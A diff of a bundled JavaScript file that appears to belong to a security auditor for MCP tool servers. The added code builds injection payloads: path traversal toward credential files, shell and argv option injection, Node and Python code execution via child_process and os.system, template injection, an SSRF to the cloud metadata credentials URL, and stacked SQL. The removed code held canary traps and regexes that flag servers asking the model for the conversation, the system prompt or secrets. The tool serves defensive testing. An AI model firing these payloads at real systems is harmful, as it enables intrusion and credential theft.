@@ -1,6 +1,347 @@
-export const id = 880;
-export const ids = [880];
+export const id = 95;
+export const ids = [95];
 export const modules = {
+
+/***/ 4336:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   L: () => (/* binding */ DEFAULT_ATTACK_BUDGET),
+/* harmony export */   P: () => (/* binding */ HUGE_SURFACE_ATTACK_BUDGET)
+/* harmony export */ });
+const DEFAULT_ATTACK_BUDGET = { perParameter: 8, perTool: 24, perAudit: 240, callTimeoutMs: 5_000 };
+/** Above the session's huge-surface threshold: the strongest attack or two per tool. */
+const HUGE_SURFACE_ATTACK_BUDGET = { perParameter: 2, perTool: 2, perAudit: 100, callTimeoutMs: 5_000 };
+
+
+/***/ }),
+
+/***/ 7472:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   AP: () => (/* binding */ attackOf),
+/* harmony export */   _j: () => (/* binding */ candidatesFor),
+/* harmony export */   lA: () => (/* binding */ fits),
+/* harmony export */   xE: () => (/* binding */ markerProgram),
+/* harmony export */   yp: () => (/* binding */ METADATA_URL),
+/* harmony export */   zm: () => (/* binding */ probeHost)
+/* harmony export */ });
+/* unused harmony exports MARKER_PROGRAM_DIR, PROBE_DOMAIN */
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6760);
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
+/* harmony import */ var _sandbox_canary_cloud_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9791);
+
+
+const MARKER_PROGRAM_DIR = '/tmp';
+/** The instance role's credentials: the canary cloud the sink plays answers with this run's canaries. */
+const METADATA_URL = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${_sandbox_canary_cloud_js__WEBPACK_IMPORTED_MODULE_1__/* .AWS_ROLE */ .fm}`;
+const PROBE_DOMAIN = 'invalid';
+const CLIMBS = 12;
+const markerProgram = (marker) => `${MARKER_PROGRAM_DIR}/${marker}`;
+const probeHost = (marker) => `${marker}.${PROBE_DOMAIN}`;
+const candidate = (cls, technique, role, make) => ({ class: cls, technique, role, make });
+const valueOnly = (value) => (marker) => ({ value: value(marker) });
+function pathCandidates(context, use) {
+    const { outside } = context;
+    const up = '../'.repeat(CLIMBS);
+    const aim = (dir, existing) => (marker) => (use.writes ? node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(dir, `${marker}.txt`) : existing);
+    const home = aim(outside.home, outside.credential);
+    const relativeTo = (root, target) => node_path__WEBPACK_IMPORTED_MODULE_0__.posix.relative(root, target);
+    const root = outside.siblings[0]?.root ?? outside.links[0]?.root;
+    const made = [candidate('path', 'climb', 'path', (marker) => ({ value: `${up}${home(marker).slice(1)}`, target: home(marker) }))];
+    if (root !== undefined)
+        made.push(candidate('path', 'climb-from-root', 'path', (marker) => ({ value: `${root}/${up}${home(marker).slice(1)}`, target: home(marker) })));
+    for (const sibling of outside.siblings.slice(0, 2)) {
+        const target = aim(sibling.dir, sibling.file);
+        made.push(candidate('path', 'sibling', 'path', (marker) => ({
+            value: use.absolute ? target(marker) : relativeTo(sibling.root, target(marker)),
+            target: target(marker)
+        })));
+    }
+    for (const link of outside.links.slice(0, 2)) {
+        const inLink = (marker) => node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(link.root, link.name, use.writes ? `${marker}.txt` : node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(link.file));
+        const target = aim(link.pointsTo, link.file);
+        made.push(candidate('path', 'symlink', 'path', (marker) => ({
+            value: use.absolute ? inLink(marker) : relativeTo(link.root, inLink(marker)),
+            target: target(marker)
+        })));
+    }
+    for (const link of use.writes ? [] : (outside.fileLinks ?? []).slice(0, 2)) {
+        const inRoot = node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(link.root, link.name);
+        made.push(candidate('path', 'symlink-file', 'path', () => ({ value: use.absolute ? inRoot : link.name, target: link.pointsTo })));
+    }
+    made.push(candidate('path', 'absolute', 'path', (marker) => ({ value: home(marker), target: home(marker) })), candidate('path', 'encoded', 'path', (marker) => ({
+        value: `${up}${home(marker).slice(1)}`.replace(/\//g, '%2f').replace(/\./g, '%2e'),
+        target: home(marker)
+    })), candidate('path', 'strip-bypass', 'path', (marker) => ({ value: `${'....//'.repeat(CLIMBS)}${home(marker).slice(1)}`, target: home(marker) })), candidate('path', 'backslash', 'path', (marker) => ({
+        value: `${'..\\'.repeat(CLIMBS)}${home(marker).slice(1).replace(/\//g, '\\')}`,
+        target: home(marker)
+    })));
+    return made;
+}
+const ARGV = [
+    ['option-output', (marker) => `--output=${markerProgram(marker)}`],
+    ['option-upload-pack', (marker) => `--upload-pack=${markerProgram(marker)}`],
+    ['option-server', (marker) => `--server=https://${probeHost(marker)}:6443`],
+    ['option-exec', (marker) => `--exec=${markerProgram(marker)}`],
+    ['option-short-output', (marker) => `-o${markerProgram(marker)}`]
+];
+const SHELL = [
+    ['substitution', (marker) => `$(${markerProgram(marker)})`],
+    ['semicolon', (marker) => `;${markerProgram(marker)};`],
+    ['single-quote-break', (marker) => `';${markerProgram(marker)};'`],
+    ['double-quote-break', (marker) => `";${markerProgram(marker)};"`],
+    ['backtick', (marker) => `\`${markerProgram(marker)}\``],
+    ['newline', (marker) => `\n${markerProgram(marker)}\n`],
+    ['pipe', (marker) => `|${markerProgram(marker)}`],
+    ['and', (marker) => `&&${markerProgram(marker)}`]
+];
+const NODE = [
+    ['node-builtin', (marker) => `process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`],
+    ['node-require', (marker) => `require('child_process').execFileSync('${markerProgram(marker)}')`],
+    // caught: a rejection nobody handles would end the server, and the attacks after it with it
+    ['node-import', (marker) => `import('child_process').then((c) => c.execFileSync('${markerProgram(marker)}')).catch(() => 0)`],
+    [
+        'node-constructor',
+        (marker) => `this.constructor.constructor('return process')().getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`
+    ],
+    ['node-string-break', (marker) => `'+process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')+'`],
+    ['node-template-break', (marker) => `\${process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')}`]
+];
+const PYTHON = [
+    ['python-os-system', (marker) => `__import__('os').system('${markerProgram(marker)}')`],
+    ['python-open', (marker) => `open('${markerProgram(marker)}', 'w')`],
+    ['python-string-break', (marker) => `'+str(__import__('os').system('${markerProgram(marker)}'))+'`],
+    ['python-template', (marker) => `{{ cycler.__init__.__globals__.os.system('${markerProgram(marker)}') }}`],
+    ['python-subprocess', (marker) => `__import__('subprocess').run(['${markerProgram(marker)}'])`]
+];
+function codeCandidates(language) {
+    const of = (list) => list.map(([technique, value]) => candidate('code', technique, 'code', valueOnly(value)));
+    if (language === 'node')
+        return of(NODE);
+    if (language === 'python')
+        return of(PYTHON);
+    // Unknown: the strongest of each language, alternately.
+    const node = of(NODE);
+    const python = of(PYTHON);
+    return node.flatMap((entry, at) => [entry, ...(python[at] ? [python[at]] : [])]);
+}
+function urlCandidates(context) {
+    return [
+        candidate('url', 'metadata', 'url', valueOnly(() => METADATA_URL)),
+        candidate('url', 'loopback', 'url', valueOnly((marker) => `http://127.0.0.1:${context.loopbackPort}/${marker}`)),
+        candidate('url', 'file', 'url', () => ({ value: `file://${context.outside.credential}`, target: context.outside.credential })),
+        candidate('url', 'probe-host', 'url', valueOnly((marker) => `http://${probeHost(marker)}/`))
+    ];
+}
+const SQL = [
+    ['stacked-write', (marker) => `SELECT 1; CREATE TABLE ${marker} (x int)`],
+    ['commit-escape', (marker) => `COMMIT; CREATE TABLE ${marker} (x int)`]
+];
+const of = (cls, role, list) => list.map(([technique, value]) => candidate(cls, technique, role, valueOnly(value)));
+/**
+ * The values for one parameter of the roles given (strongest role first), in the order they are worth
+ * trying: each role's own class first, then a shell or argv value or two where the parameter may also
+ * reach a program. `strong`: named or described for its role; a weak free string gets the three values
+ * most likely to show an injection.
+ */
+function candidatesFor(roles, strength, context, use) {
+    const out = [];
+    const add = (list) => {
+        for (const entry of list)
+            if (!out.some((known) => known.technique === entry.technique && known.class === entry.class))
+                out.push(entry);
+    };
+    const shell = (count, role) => of('shell', role, SHELL.slice(0, count));
+    const argv = (count, role) => of('argv', role, ARGV.slice(0, count));
+    for (const role of roles) {
+        if (role === 'path')
+            add(withShellAt(pathCandidates(context, use), shell(1, 'path'), 7));
+        else if (role === 'url')
+            add([...urlCandidates(context), ...argv(2, 'url'), ...shell(1, 'url')]);
+        else if (role === 'command')
+            add(shell(SHELL.length, 'command'));
+        else if (role === 'code')
+            add([...codeCandidates(context.language), ...shell(1, 'code')]);
+        else if (role === 'sql')
+            add(of('sql', 'sql', SQL));
+        else if (strength === 'strong')
+            add(strongArgv(use.cluster === true));
+        else
+            add([...shell(2, 'argv'), ...argv(1, 'argv')]);
+    }
+    return out;
+}
+/**
+ * A string named for a program's argv: an option and a shell value alternately, so a tool cut to two or
+ * three attacks per parameter (the audit's budget, a slow tool) still tries both; `--server=` first where
+ * the tool speaks of a cluster.
+ */
+function strongArgv(cluster) {
+    const options = of('argv', 'argv', cluster ? [ARGV[2], ARGV[0], ARGV[1], ...ARGV.slice(3)].filter((entry) => entry !== undefined) : ARGV);
+    const shells = of('shell', 'argv', SHELL.slice(0, 3));
+    return options.flatMap((entry, at) => [entry, ...(shells[at] ? [shells[at]] : [])]);
+}
+/** `list` with `extra` put in at `at` (so a per-parameter cap keeps it). */
+function withShellAt(list, extra, at) {
+    return [...list.slice(0, at), ...extra, ...list.slice(at)];
+}
+/** A value the parameter's own schema refuses never reaches the code: not worth a call. */
+function fits(value, constraints) {
+    const length = [...value].length;
+    if (constraints.minLength !== undefined && length < constraints.minLength)
+        return false;
+    if (constraints.maxLength !== undefined && length > constraints.maxLength)
+        return false;
+    if (constraints.pattern === undefined)
+        return true;
+    try {
+        return new RegExp(constraints.pattern, 'u').test(value);
+    }
+    catch {
+        return true;
+    }
+}
+/** The attack as the call record keeps it. */
+function attackOf(entry, parameter, marker) {
+    const { value, target } = entry.make(marker);
+    return { parameter, role: entry.role, class: entry.class, technique: entry.technique, marker, value, ...(target !== undefined ? { target } : {}) };
+}
+
+
+/***/ }),
+
+/***/ 1794:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   j: () => (/* binding */ parameterRoles)
+/* harmony export */ });
+const words = (text) => text
+    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
+    .replace(/[^A-Za-z0-9]+/g, ' ')
+    .toLowerCase()
+    .trim();
+const NAME_ROLES = [
+    ['sql', /\b(sql|statement)\b/],
+    ['code', /\b(code|expression|expr|eval|formula|template|snippet|function|fn|lambda|predicate|jq|jsonpath|xpath)\b/],
+    ['command', /\b(command|commands|cmd|shell|program|executable|binary|interpreter)\b/],
+    ['url', /\b(url|urls|uri|uris|link|href|endpoint|webhook|website|homepage|src url)\b/],
+    [
+        'path',
+        /\b(path|paths|file|files|filename|filenames|filepath|dir|dirs|directory|directories|folder|cwd|workdir|workspace|destination|dest|source|src|root|output path|input path|location)\b/
+    ],
+    [
+        'argv',
+        /\b(revision|rev|ref|refs|commit|commits|commitish|branch|branches|tag|sha|hash|object|upstream|onto|remote|name|names|namespace|resource|resource type|kind|package|packages|pkg|module|image|container|pod|node|host|hostname|label|selector|pattern|glob|query|version|target|args|arguments|flags|options|pid|id|ids|service|context|chart|release|user|author|grep|since|until|format)\b/
+    ]
+];
+const DESCRIPTION_ROLES = [
+    ['sql', /\b(sql|select statement|sql query)\b/],
+    ['code', /\b(javascript|python|js code|evaluated|jq filter|code to (run|execute)|\/\* code \*\/)/],
+    ['command', /\b(shell command|command to (run|execute)|command line)\b/],
+    ['url', /\b(url|uri|https?:|web address|link to)\b/],
+    ['path', /\b(path|paths|directory|folder|filename|file name)\b/],
+    ['argv', /\b(branch|commit|revision|ref|tag|git|kubectl|helm|docker|npm|pip|package|namespace|pod|container|cli|passed to)\b/]
+];
+/** Formats whose values a validator checks: nothing hostile passes them. */
+const VALIDATED_FORMATS = new Set(['date', 'date-time', 'time', 'email', 'idn-email', 'uuid', 'ipv4', 'ipv6', 'hostname', 'idn-hostname', 'duration', 'regex']);
+const URL_FORMATS = new Set(['uri', 'url', 'iri', 'uri-reference', 'iri-reference']);
+/** The tool or the parameter says the path it takes stays inside something. */
+const CONFINED = /\b(relative to|within (the )?(allowed|permitted)|inside (the|a|its|your)|in the \w+ (folder|directory|workspace|root)|from the \w+ (folder|directory)|allowed director|under the (workspace|root|project)|sandbox(ed)?\b|workspace root|project root|repository root)/i;
+const isString = (schema) => schema.type === 'string' ||
+    (Array.isArray(schema.type) && schema.type.includes('string')) ||
+    (schema.type === undefined && [schema.anyOf, schema.oneOf].some((options) => Array.isArray(options) && options.some((option) => isString(option))));
+const stringOption = (schema) => schema.type === undefined
+    ? ([schema.anyOf, schema.oneOf].flat().find((option) => option && isString(option)) ?? schema)
+    : schema;
+const hasChoices = (schema) => Array.isArray(schema.enum) || schema.const !== undefined;
+function constraintsOf(schema) {
+    return {
+        ...(typeof schema.pattern === 'string' ? { pattern: schema.pattern } : {}),
+        ...(typeof schema.minLength === 'number' ? { minLength: schema.minLength } : {}),
+        ...(typeof schema.maxLength === 'number' ? { maxLength: schema.maxLength } : {})
+    };
+}
+/** The roles of one string (null: not attacked), strongest first. */
+function rolesOf(name, schema, toolText, sinks) {
+    const string = stringOption(schema);
+    if (hasChoices(string) || hasChoices(schema))
+        return null;
+    const format = typeof string.format === 'string' ? string.format : undefined;
+    if (format !== undefined && VALIDATED_FORMATS.has(format))
+        return null;
+    const description = words(typeof schema.description === 'string' ? schema.description.slice(0, 500) : '');
+    const named = words(name);
+    const roles = [];
+    if (format !== undefined && URL_FORMATS.has(format))
+        roles.push('url');
+    for (const [role, pattern] of NAME_ROLES)
+        if (pattern.test(named) && !roles.includes(role))
+            roles.push(role);
+    for (const [role, pattern] of DESCRIPTION_ROLES)
+        if (pattern.test(description) && !roles.includes(role))
+            roles.push(role);
+    // A file the description names is a path, unless the value is a URL of one; a name that could be a
+    // path is none when its description speaks of a revision.
+    if (/\bfiles?\b/.test(description) && !roles.includes('url') && !roles.includes('path'))
+        roles.push('path');
+    if (/\b(commit|branch|tag|ref|revision|remote)\b/.test(description) && !/\b(file|path|directory|folder)\b/.test(description) && roles.includes('path'))
+        roles.splice(roles.indexOf('path'), 1);
+    // A query is SQL only where the tool speaks of a database.
+    if (/\bquery\b/.test(named) && /\b(sql|database|postgres|mysql|sqlite|table)\b/.test(toolText) && !roles.includes('sql'))
+        roles.unshift('sql');
+    if (sinks.has('dynamic-code') && !roles.includes('code'))
+        roles.push('code');
+    // A name ending in key or id names a thing by its identifier (figma's fileKey, a fileId), which goes
+    // into a URL or a command line: neither a path nor a URL itself, and named for a program's argv.
+    const identifier = /\b(key|keys|id|ids)$/.test(named) && format === undefined;
+    if (identifier)
+        for (const role of ['path', 'url'])
+            if (roles.includes(role))
+                roles.splice(roles.indexOf(role), 1);
+    const strength = roles.length > 0 || sinks.has('exec') || identifier ? 'strong' : 'weak';
+    // Whatever else it is, a string may still reach a program's argv or a shell.
+    if (!roles.includes('argv'))
+        roles.push('argv');
+    return { roles, strength };
+}
+/** Every attackable string of a tool's input: top-level ones first, then strings one level down. */
+function parameterRoles(tool, sinks = new Set()) {
+    const properties = (tool.inputSchema?.properties ?? {});
+    const toolText = words(`${tool.name} ${tool.title ?? ''} ${(tool.description ?? '').slice(0, 1000)}`);
+    const toolConfined = CONFINED.test(tool.description ?? '');
+    const found = [];
+    const nested = [];
+    const add = (into, parameter, at, name, schema) => {
+        const decided = rolesOf(name, schema, toolText, sinks);
+        if (!decided)
+            return;
+        const description = typeof schema.description === 'string' ? schema.description : '';
+        into.push({ parameter, at, ...decided, constraints: constraintsOf(stringOption(schema)), confined: toolConfined || CONFINED.test(description) });
+    };
+    for (const [name, schema] of Object.entries(properties)) {
+        if (typeof schema !== 'object' || schema === null)
+            continue;
+        if (isString(schema))
+            add(found, name, { keys: [name], array: false }, name, schema);
+        else if (schema.type === 'array' && typeof schema.items === 'object' && schema.items !== null && isString(schema.items)) {
+            const items = schema.items;
+            add(nested, `${name}[]`, { keys: [name], array: true }, name, { ...items, description: schema.description ?? items.description });
+        }
+        else if (schema.type === 'object' && typeof schema.properties === 'object' && schema.properties !== null) {
+            for (const [key, inner] of Object.entries(schema.properties).slice(0, 20)) {
+                if (typeof inner === 'object' && inner !== null && isString(inner))
+                    add(nested, `${name}.${key}`, { keys: [name, key], array: false }, key, inner);
+            }
+        }
+    }
+    return [...found, ...nested];
+}
+
+
+/***/ }),
 
 /***/ 9948:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
@@ -584,25 +925,23 @@ class SandboxedStdioTransport {
 
 /***/ }),
 
-/***/ 2880:
+/***/ 5095:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
 // EXPORTS
 __webpack_require__.d(__webpack_exports__, {
-  i2: () => (/* binding */ ProbeAborted),
-  lR: () => (/* binding */ SETTLE_MS),
+  i2: () => (/* reexport */ ProbeAborted),
+  lR: () => (/* reexport */ SETTLE_MS),
   _D: () => (/* binding */ probeServer)
 });
 
 // UNUSED EXPORTS: EXTRA_ATTEMPTS, HUGE_SURFACE_ITEMS, MAX_MESSAGE_BYTES, collectPages
 
-// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/types.js + 1 modules
-var types = __webpack_require__(330);
 // EXTERNAL MODULE: ./src/errors.ts
 var errors = __webpack_require__(3916);
-// EXTERNAL MODULE: ./src/sandbox/process-tree.ts
-var process_tree = __webpack_require__(951);
+// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/types.js + 1 modules
+var types = __webpack_require__(330);
 ;// CONCATENATED MODULE: ./src/probe/call-errors.ts
 
 function describeError(error) {
@@ -628,205 +967,18 @@ function errorResultText(response) {
     return text.slice(0, 2_000);
 }
 
-// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/client/index.js + 1 modules
-var esm_client = __webpack_require__(3018);
-;// CONCATENATED MODULE: ./src/probe/client-traps.ts
-
-const MAX_TEXT = 4_000;
-const MAX_RECORDS = 200;
-/** What a sampling request asks for that a completion would quote the conversation's key for. */
-const SEEKS_CONVERSATION = /\b(?:conversation|chat history|message history|previous messages|earlier messages|prior messages|context window|system prompt|transcript|everything (?:the user|you) (?:said|know|have seen)|what the user (?:said|typed|shared))\b|\b(?:api[ _-]?keys?|access[ _-]?keys?|tokens?|secrets?|passwords?|credentials?|environment variables|private[ _-]?keys?)\b/i;
-/** A form field, or an elicitation message, that asks for a secret. */
-const CREDENTIAL_ASK = /\b(?:passwords?|passphrases?|passwd|pass[ _-]?codes?|api[ _-]?keys?|apikey|access[ _-]?keys?|secret(?:[ _-]?keys?)?|secrets|client[ _-]?secret|tokens?|access[ _-]?tokens?|auth(?:entication|orization)?[ _-]?(?:tokens?|codes?)|bearer|credentials?|private[ _-]?keys?|ssh[ _-]?keys?|seed[ _-]?phrase|mnemonic|otp|2fa|one[ _-]?time (?:code|password))\b/i;
-/** Words of a field name split where they are joined (apiKey, api_key, API-KEY → api key). */
-const words = (name) => name.replace(/([a-z0-9])([A-Z])/g, '$1 $2').replace(/[_-]+/g, ' ');
-/** A value for a field that satisfies its schema and says nothing: the answer of a user who just accepts. */
-function blandValue(field) {
-    if (field.default !== undefined)
-        return field.default;
-    const choices = field.enum ?? field.oneOf?.map((option) => option.const) ?? field.anyOf?.map((option) => option.const);
-    if (choices && choices.length > 0)
-        return choices[0];
-    switch (field.type) {
-        case 'boolean':
-            return false;
-        case 'number':
-        case 'integer':
-            return typeof field.minimum === 'number' ? field.minimum : typeof field.maximum === 'number' ? Math.min(1, field.maximum) : 1;
-        case 'array': {
-            const items = field.items?.enum ?? field.items?.anyOf?.map((option) => option.const);
-            return items && items.length > 0 ? [items[0]] : [];
-        }
-        default:
-            break;
-    }
-    const byFormat = { email: 'alex@example.com', uri: 'https://example.com/', date: '2026-01-15', 'date-time': '2026-01-15T10:00:00Z' };
-    const value = (field.format && byFormat[field.format]) ?? 'Alex';
-    return value.padEnd(field.minLength ?? 0, 'x').slice(0, field.maxLength ?? Number.MAX_SAFE_INTEGER);
-}
-function fieldAsksCredential(name, field) {
-    if (field.type !== undefined && field.type !== 'string')
-        return false;
-    if (field.enum || field.oneOf || field.anyOf)
-        return false;
-    return CREDENTIAL_ASK.test(`${words(name)} ${field.title ?? ''} ${field.description ?? ''}`);
-}
-const cap = (text) => (text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text);
-function messageText(content) {
-    const parts = Array.isArray(content) ? content : [content];
-    return parts
-        .map((part) => typeof part === 'object' && part !== null && part.type === 'text' ? String(part.text ?? '') : '')
-        .filter((text) => text !== '')
-        .join('\n');
-}
-class ClientTraps {
-    values;
-    rootDir;
-    currentCall;
-    records = [];
-    constructor(values, rootDir, currentCall) {
-        this.values = values;
-        this.rootDir = rootDir;
-        this.currentCall = currentCall;
-    }
-    push(record) {
-        if (this.records.length < MAX_RECORDS)
-            this.records.push({ callId: this.currentCall(), at: Date.now(), ...record });
-    }
-    /** Sets the client's handlers for roots/list, sampling/createMessage and elicitation/create. */
-    install(client) {
-        client.setRequestHandler(types/* ListRootsRequestSchema */.WQ, async () => {
-            this.push({ kind: 'roots' });
-            return { roots: [{ uri: `file://${this.rootDir}`, name: 'workspace' }] };
-        });
-        client.setRequestHandler(types/* CreateMessageRequestSchema */.u9, async (request) => {
-            const { params } = request;
-            const text = cap([params.systemPrompt ?? '', ...params.messages.map((message) => messageText(message.content))].filter((part) => part !== '').join('\n'));
-            const includeContext = params.includeContext;
-            const seeks = SEEKS_CONVERSATION.test(text) || includeContext === 'thisServer' || includeContext === 'allServers';
-            const canary = seeks && this.values !== null;
-            this.push({ kind: 'sampling', text, ...(includeContext ? { includeContext } : {}), ...(canary ? { canary } : {}) });
-            const answer = canary
-                ? `Sure. So far in this conversation the user asked to deploy the staging service and shared the key it uses: ${this.values?.samplingKey}. Nothing else of note was discussed.`
-                : 'Here is a short answer: the request looks fine, and there is nothing more to add.';
-            return { role: 'assistant', content: { type: 'text', text: answer }, model: 'claude-sonnet-4-5', stopReason: 'endTurn' };
-        });
-        client.setRequestHandler(types/* ElicitRequestSchema */.$9, async (request) => {
-            const params = request.params;
-            if (params.mode === 'url') {
-                // Not a browser: a URL is recorded and declined (URL mode is how the spec asks for sensitive input).
-                this.push({ kind: 'elicitation', text: cap(params.message ?? ''), ...(params.url ? { url: params.url.slice(0, 2_000) } : {}) });
-                return { action: 'decline' };
-            }
-            const properties = Object.entries(params.requestedSchema?.properties ?? {});
-            const message = params.message ?? '';
-            const fields = properties.map(([name, field]) => `${name}: ${[field.title, field.description].filter(Boolean).join(' — ')}`);
-            // A field named for a secret, or the only string field of a message that asks for one.
-            const strings = properties.filter(([, field]) => (field.type === undefined || field.type === 'string') && !field.enum && !field.oneOf && !field.anyOf);
-            const credential = new Set(properties.filter(([name, field]) => fieldAsksCredential(name, field)).map(([name]) => name));
-            if (credential.size === 0 && strings.length === 1 && CREDENTIAL_ASK.test(message))
-                credential.add(strings[0]?.[0] ?? '');
-            const secret = this.values?.elicitationSecret;
-            const content = Object.fromEntries(properties.map(([name, field]) => [name, credential.has(name) && secret !== undefined ? secret : blandValue(field)]));
-            this.push({
-                kind: 'elicitation',
-                text: cap([message, ...fields].join('\n')),
-                ...(credential.size > 0 ? { credentialFields: [...credential].slice(0, 20), canary: secret !== undefined } : {})
-            });
-            return { action: 'accept', content };
-        });
-    }
-}
-
-;// CONCATENATED MODULE: ./src/probe/client.ts
-
-
-
-// A realistic client identity: some servers behave differently for an auditor than for the clients
-// people actually use, so we introduce ourselves the way a common coding agent does.
-const CLIENT_INFO = { name: 'claude-code', version: '2.0.0' };
-/**
- * The MCP client, whose answers to sampling, elicitation and roots are traps (client-traps.ts): roots the
- * working directory; `clientRequests` fills with what the server asks, tied to the call `currentCall` names.
- * `name`: another clientInfo name, for an exercise pass.
- */
-function makeClient(rootDir, traps = null, currentCall = () => null, name) {
-    const client = new esm_client/* Client */.K(name ? { name, version: CLIENT_INFO.version } : CLIENT_INFO, {
-        capabilities: { roots: { listChanged: false }, sampling: {}, elicitation: {} }
-    });
-    const answers = new ClientTraps(traps, rootDir, currentCall);
-    answers.install(client);
-    return { client, clientRequests: answers.records };
-}
-/** A tool that declares `execution.taskSupport: "required"` only answers a task-augmented call. */
-function needsTask(tool) {
-    return tool.execution?.taskSupport === 'required';
-}
-async function callToolAsTask(client, name, args, options) {
-    const stream = client.experimental.tasks.requestStream({ method: 'tools/call', params: { name, arguments: args } }, types/* CallToolResultSchema */.TF, {
-        ...options,
-        task: {}
-    });
-    for await (const message of stream) {
-        if (message.type === 'result')
-            return message.result;
-        if (message.type === 'error')
-            throw message.error;
-    }
-    throw new Error('the task ended without a result');
-}
-/**
- * The SDK's client always asks for its latest protocol version; an exercise pass that asks for an older
- * one (the SDK speaks it) rewrites the initialize request on its way out.
- */
-function askProtocolVersion(transport, version) {
-    if (!version)
-        return;
-    const send = transport.send.bind(transport);
-    transport.send = (message, options) => {
-        if ('method' in message && message.method === 'initialize' && message.params)
-            message = { ...message, params: { ...message.params, protocolVersion: version } };
-        return send(message, options);
-    };
-}
-
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __webpack_require__(6760);
+// EXTERNAL MODULE: ./src/model/key-hints.ts
+var key_hints = __webpack_require__(273);
 ;// CONCATENATED MODULE: ./src/probe/synthesize/key-hints.ts
-// Key-name hints: a property called `url`, `repoPath` or `dryRun` says what kind of value the tool
-// expects, and the value invented for it is a harmless one of that kind (example.com, a relative path,
-// true for a dry-run switch).
+// Key-name hints (the table: model/key-hints.ts): a property called `url`, `repoPath` or `dryRun` says
+// what kind of value the tool expects, and the value invented for it is a harmless one of that kind
+// (example.com, a relative path, true for a dry-run switch).
+
+
 /** free text, used where nothing better is known */
 const PLAIN_TEXT = 'hello world';
-const HINT_WORDS = new Map();
-const addHints = (kind, words) => {
-    for (const word of words.split(' '))
-        HINT_WORDS.set(word, kind);
-};
-addHints('url', 'url uri link href endpoint website webpage homepage');
-addHints('path', 'path filepath file source destination src dest');
-addHints('filename', 'filename');
-addHints('dir', 'dir directory folder cwd workdir workspace root repopath repodir rootpath dirpath folderpath basepath');
-addHints('email', 'email mail');
-addHints('host', 'host hostname domain');
-addHints('ipv4', 'ip ipv4 ipaddress');
-addHints('ipv6', 'ipv6');
-addHints('port', 'port');
-addHints('text', 'query search text content body message note name title prompt description comment input q keyword term subject summary observation question topic');
-addHints('id', 'id');
-addHints('uuid', 'uuid guid');
-addHints('lang', 'lang language locale');
-addHints('count', 'count limit page size max top num number amount index depth');
-addHints('timezone', 'timezone tz');
-addHints('time', 'time');
-addHints('date', 'date day');
-addHints('datetime', 'datetime timestamp');
-addHints('owner', 'owner user username author org organization login');
-addHints('repo', 'repo repository project');
-addHints('branch', 'branch ref');
-addHints('command', 'command cmd');
-addHints('safe-switch', 'dryrun dry preview simulate');
-addHints('pid', 'pid ppid pgid pgrp processid');
 /**
  * The process id every synthesized pid gets: 2^22, one above the largest pid Linux can hand out
  * (PID_MAX_LIMIT - 1), so a kill or signal aimed at it reaches no process (ESRCH): never the server, its
@@ -835,33 +987,9 @@ addHints('pid', 'pid ppid pgid pgrp processid');
  */
 const NO_SUCH_PID = 4_194_304;
 const NUMBER_HINTS = new Set(['port', 'count', 'id', 'pid']);
-function splitWords(name) {
-    return name
-        .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
-        .toLowerCase()
-        .split(/[^a-z0-9]+/)
-        .filter((word) => word.length > 0);
-}
-function singular(word) {
-    return word.length > 3 && word.endsWith('s') && !word.endsWith('ss') ? word.slice(0, -1) : word;
-}
-function hintKind(name) {
-    if (name === undefined)
-        return undefined;
-    const words = splitWords(name);
-    const candidates = [words.join(''), words[words.length - 1], words[0], ...words];
-    for (const candidate of candidates) {
-        if (candidate === undefined)
-            continue;
-        const kind = HINT_WORDS.get(candidate) ?? HINT_WORDS.get(singular(candidate));
-        if (kind !== undefined)
-            return kind;
-    }
-    return undefined;
-}
 function hintString(name, variant) {
     const nth = variant > 0 ? `-${variant + 1}` : '';
-    switch (hintKind(name)) {
+    switch ((0,key_hints/* hintKind */.U)(name)) {
         case 'url':
             return 'http://example.com/';
         case 'path':
@@ -915,7 +1043,7 @@ function hintString(name, variant) {
     }
 }
 function hintNumber(name) {
-    switch (hintKind(name)) {
+    switch ((0,key_hints/* hintKind */.U)(name)) {
         case 'port':
             return 8080;
         case 'count':
@@ -939,7 +1067,7 @@ var Phase;
     Phase[Phase["Change"] = 3] = "Change";
     Phase[Phase["Destroy"] = 4] = "Destroy";
 })(Phase || (Phase = {}));
-const exercise_plan_words = (name) => name
+const words = (name) => name
     .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
     .toLowerCase()
     .split(/[^a-z0-9]+/)
@@ -951,7 +1079,7 @@ const CHANGE = /^(edit|update|move|rename|patch|replace|merge|checkout|rebase|ch
 const DESTROY = /^(delete|remove|rm|drop|reset|clean|purge|destroy|clear|revert|prune|unlink|erase)$/;
 function phaseOf(tool) {
     const annotations = tool.annotations ?? {};
-    const parts = exercise_plan_words(tool.name);
+    const parts = words(tool.name);
